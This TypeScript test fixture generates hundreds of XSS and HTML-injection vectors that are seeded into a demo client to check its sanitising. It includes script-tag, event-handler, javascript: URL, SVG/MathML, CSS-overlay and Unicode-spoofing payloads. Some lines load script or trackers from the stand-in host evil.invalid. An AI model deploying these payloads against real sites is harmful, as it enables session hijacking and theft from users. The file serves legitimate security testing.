/**
 * Hostile content for the journeys: XSS and HTML-injection vectors that the demo instance and
 * seeded remote posts put into every field the client renders. Every vector that could run
 * script calls the page's canary, `__pwned('<id>')`, or sets `window.__xss`, so a run that
 * fires one names it. Used from Node (the seed and the spec) only.
 */

/** The origin hostile content tries to reach (resolves nowhere; the spec answers it itself). */
export const EVIL = 'https://evil.invalid'

export type Vector = { id: string; kind: string; html: string }

/** The canary call for a vector, as JavaScript source. */
const js = (id: string) => `__pwned('${id}')`

type Maker = (id: string) => string

const SCRIPTS: Maker[] = [
  (id) => `<script>${js(id)}</script>`,
  (id) => `<ScRiPt>${js(id)}</sCrIpT>`,
  (id) => `<script src="data:text/javascript,${js(id)}"></script>`,
  (id) => `<script src="${EVIL}/x.js?${id}"></script>`,
  (id) => `<script>/*</script>*/${js(id)}</script>`,
  (id) => `<<script>script>${js(id)}<</script>/script>`,
  (id) => `<scr<script>ipt>${js(id)}</scr</script>ipt>`,
  (id) => `<script type="module">${js(id)}</script>`,
  (id) => `<script\x20type="text/javascript">window.__xss='${id}'</script>`,
  (id) => `<script\n>${js(id)}</script\n>`,
  (id) => `</textarea><script>${js(id)}</script>`,
  (id) => `</title><script>${js(id)}</script>`,
  (id) => `</style><script>${js(id)}</script>`,
  (id) => `"><script>${js(id)}</script>`,
  (id) => `'><script>${js(id)}</script>`,
]

const HANDLER_TAGS = [
  '<img src=x $>',
  '<img src="x" $ alt="a">',
  '<svg $></svg>',
  '<body $>',
  '<video src=x $></video>',
  '<audio src=x $></audio>',
  '<details open $><summary>s</summary></details>',
  '<input autofocus $>',
  '<iframe src="about:blank" $></iframe>',
  '<marquee $>m</marquee>',
  '<select autofocus $></select>',
  '<textarea autofocus $></textarea>',
  '<object data=x $></object>',
  '<embed src=x $>',
  '<image src=x $>',
  '<a href="#" $>a</a>',
  '<div tabindex=0 autofocus $>d</div>',
  '<p $>p</p>',
  '<span $>s</span>',
  '<b $>b</b>',
  '<style $></style>',
  '<button autofocus $>b</button>',
  '<source src=x $>',
  '<link rel=stylesheet href=x $>',
  '<keygen autofocus $>',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onclick',
]

const handlers: Maker[] = HANDLER_TAGS.flatMap((tag, t) => {
  const a = EVENTS[t % EVENTS.length] ?? 'onerror'
  const b = EVENTS[(t + 3) % EVENTS.length] ?? 'onload'
  return [
    (id: string) => tag.replace('$', `${a}="${js(id)}"`),
    (id: string) => tag.replace('$', `${b.toUpperCase()}=${js(id)}`),
  ]
})

const URL_PAYLOADS: Maker[] = [
  (id) => `javascript:${js(id)}`,
  (id) => `JaVaScRiPt:${js(id)}`,
  (id) => `java\tscript:${js(id)}`,
  (id) => `java\nscript:${js(id)}`,
  (id) => `&#106;avascript:${js(id)}`,
  (id) => `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${js(id)}`,
  (id) => `javascript&colon;${js(id)}`,
  (id) => `   javascript:${js(id)}`,
  (id) => `\x01javascript:${js(id)}`,
  (id) => `javascript://%0a${js(id)}`,
  (id) => `data:text/html,<script>${js(id)}</script>`,
  (id) => `data:text/html;base64,${Buffer.from(`<script>${js(id)}</script>`).toString('base64')}`,
  (id) => `data:image/svg+xml,<svg onload="${js(id)}"/>`,
  (id) => `vbscript:msgbox("${id}")`,
  (id) => `livescript:${js(id)}`,
]

const links: Maker[] = URL_PAYLOADS.flatMap((url, i) => [
  (id: string) => `<a href="${url(id).replace(/"/g, '&quot;')}">link ${i}</a>`,
  (id: string) => `<a href='${url(id).replace(/'/g, '&#39;')}' class="mention u-url">@link${i}</a>`,
])

const URL_SINKS: Maker[] = [
  (id) => `<form action="javascript:${js(id)}"><button>go</button></form>`,
  (id) => `<button formaction="javascript:${js(id)}">go</button>`,
  (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
  (id) => `<iframe srcdoc="<script>parent.${js(id)}</script>"></iframe>`,
  (id) => `<object data="javascript:${js(id)}"></object>`,
  (id) => `<embed src="javascript:${js(id)}">`,
  (id) => `<img src="javascript:${js(id)}">`,
  (id) => `<base href="javascript:${js(id)}//">`,
  (_id) => `<base href="${EVIL}/">`,
  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`,
  (id) => `<map name=m><area href="javascript:${js(id)}" shape=default></map><img usemap=#m src=x>`,
  (id) => `<a href="${EVIL}/${id}" target="_self">same tab</a>`,
  (id) => `<a href="${EVIL}/${id}" rel="opener" target="_blank">opener</a>`,
  (id) => `<a href="//evil.invalid/${id}">protocol relative</a>`,
]

const SVG_MATHML: Maker[] = [
  (id) => `<svg><script>${js(id)}</script></svg>`,
  (id) => `<svg><animate onbegin="${js(id)}" attributeName=x dur=1s></svg>`,
  (id) => `<svg><set attributeName="href" to="javascript:${js(id)}"/><a><text y=20>x</text></a></svg>`,
  (id) => `<svg><a xlink:href="javascript:${js(id)}"><text y=20>svg link</text></a></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js(id)}'/></svg>#x"/></svg>`,
  (id) => `<svg><foreignObject><img src=x onerror="${js(id)}"></foreignObject></svg>`,
  (id) => `<svg><style><img src=x onerror="${js(id)}"></style></svg>`,
  (id) => `<svg><title><![CDATA[</title><img src=x onerror="${js(id)}">]]></svg>`,
  (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(id)}">`,
  (id) => `<math href="javascript:${js(id)}">math link</math>`,
  (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}">x</maction></math>`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js(id)}">`,
  (id) => `<math><mi//xlink:href="data:x,<script>${js(id)}</script>">`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>"></noscript>`,
  (id) => `<svg></p><style><a id="</style><img src=1 onerror=${js(id)}>">`,
  (id) => `<template><img src=x onerror="${js(id)}"></template>`,
]

const CSS: Maker[] = [
  () => `<div style="position:fixed;inset:0;z-index:2147483647;background:red">OVERLAY</div>`,
  () => `<p style="position:absolute;top:-200px;left:-200px;width:200vw">escaped</p>`,
  () => `<style>body{display:none!important}</style>`,
  () => `<style>@import '${EVIL}/x.css';</style>`,
  () => `<link rel="stylesheet" href="${EVIL}/x.css">`,
  () => `<link rel="prefetch" href="${EVIL}/prefetch">`,
  (id) => `<p style="background:url(javascript:${js(id)})">bg</p>`,
  (id) => `<div style="width:expression(${js(id)})">ie</div>`,
  () => `<span style="behavior:url(${EVIL}/x.htc)">htc</span>`,
  () => `<p style="font-size:900px">HUGE</p>`,
  () => `<p style="transform:scale(40)">scaled</p>`,
  () => `<p style="margin-left:-9999px">offscreen</p>`,
  () => `<p class="visually-hidden sr-only skip" id="root">classes</p>`,
  () => `<span style="display:block;width:5000px;height:5000px">wide box</span>`,
  () => `<img src="${EVIL}/track.png" width=5000 height=5000>`,
  () => `<p><img src="//evil.invalid/pixel.gif"></p>`,
]

const BROKEN: Maker[] = [
  (id) => `<img src="x" onerror="${js(id)}"`,
  (id) => `<a href="javascript:${js(id)}"`,
  () => `</p></div></article></main><div style=position:fixed;top:0>closed early</div>`,
  (id) => `<!--<img src=x onerror="${js(id)}">-->`,
  (id) => `<!--><img src=x onerror="${js(id)}">-->`,
  (id) => `<![CDATA[<img src=x onerror="${js(id)}">]]>`,
  (id) => `<p title="x"><img src=x onerror="${js(id)}">">`,
  (id) => `<img """><script>${js(id)}</script>">`,
  (id) => `"><img src=x onerror=${js(id)}>`,
  (id) => `'><img src=x onerror=${js(id)}>`,
  (id) => `{{constructor.constructor('${js(id)}')()}}`,
  (id) => '${' + js(id) + '}',
  (id) => `&lt;script&gt;${js(id)}&lt;/script&gt;`,
  (id) => `<a href=javascript:${js(id)}>unquoted</a>`,
  (id) => `<a/href="javascript:${js(id)}">slash</a>`,
  (id) => `<img/src=x/onerror=${js(id)}>`,
  (_id) => `<p><b><i><u><s>${'<span>'.repeat(60)}deep${'</span>'.repeat(60)}`,
  () => `${'W'.repeat(2500)}`,
  () => `https://example.org/${'a'.repeat(1500)}`,
  () => `<pre>${'x'.repeat(2000)}</pre>`,
  () => `<code>${'y'.repeat(2000)}</code>`,
  () => `<h1>${'Z'.repeat(800)}</h1>`,
  (id) => `<xss onafterscriptexecute="${js(id)}"><script>1</script>`,
  (id) => `<isindex type=image src=1 onerror="${js(id)}">`,
]

const UNICODE: Maker[] = [
  () => '\u202Egnp.exe\u202C harmless',
  () => '\u202Dforced ltr\u202C and \u202Eforced rtl',
  () => '\u2066isolate\u2069 \u2067rtl isolate\u2069 \u2068first strong',
  () => 'zero\u200Bwidth\u200Cjoiners\u200D\uFEFF',
  () => '\u200Fright-to-left mark \u061C arabic mark',
  () => `Z${'\u0336\u0337\u0338'.repeat(30)}algo`,
  () => 'admin\u0000\u0007\u001B[31m null and escape',
  () => 'ｊａｖａｓｃｒｉｐｔ：fullwidth',
]

const MAKERS: { kind: string; makers: Maker[] }[] = [
  { kind: 'script', makers: SCRIPTS },
  { kind: 'handler', makers: handlers },
  { kind: 'link', makers: links },
  { kind: 'url-sink', makers: URL_SINKS },
  { kind: 'svg-mathml', makers: SVG_MATHML },
  { kind: 'css', makers: CSS },
  { kind: 'broken', makers: BROKEN },
  { kind: 'unicode', makers: UNICODE },
]

/** All vectors, numbered v001…, each with its canary id built in. */
export const VECTORS: Vector[] = MAKERS.flatMap(({ kind, makers }) => makers.map((make) => ({ kind, make }))).map(
  ({ kind, make }, i) => {
    const id = `v${String(i + 1).padStart(3, '0')}`
    return { id, kind, html: make(id) }
  },
)

/** A short hostile line for plain-text fields (names, titles, options): one vector, trimmed to fit. */
export function shortVector(i: number, max = 100): string {
  const v = VECTORS[i % VECTORS.length]
  return (v?.html ?? '').slice(0, max)
}

/** The vectors in groups of `size` (one group per post, bio or description). */
export function chunks(size: number, list: readonly Vector[] = VECTORS): Vector[][] {
  const out: Vector[][] = []
  for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size))
  return out
}
